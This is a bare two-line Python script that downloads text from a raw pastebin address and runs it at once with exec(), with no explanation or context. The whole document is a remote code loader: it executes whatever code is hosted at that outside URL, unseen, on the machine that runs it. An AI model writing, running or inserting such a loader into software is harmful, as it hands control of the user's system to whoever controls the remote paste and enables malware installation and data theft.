import requests
exec(requests.get('https://pastebin.com/raw/Xz81kLmq').text)
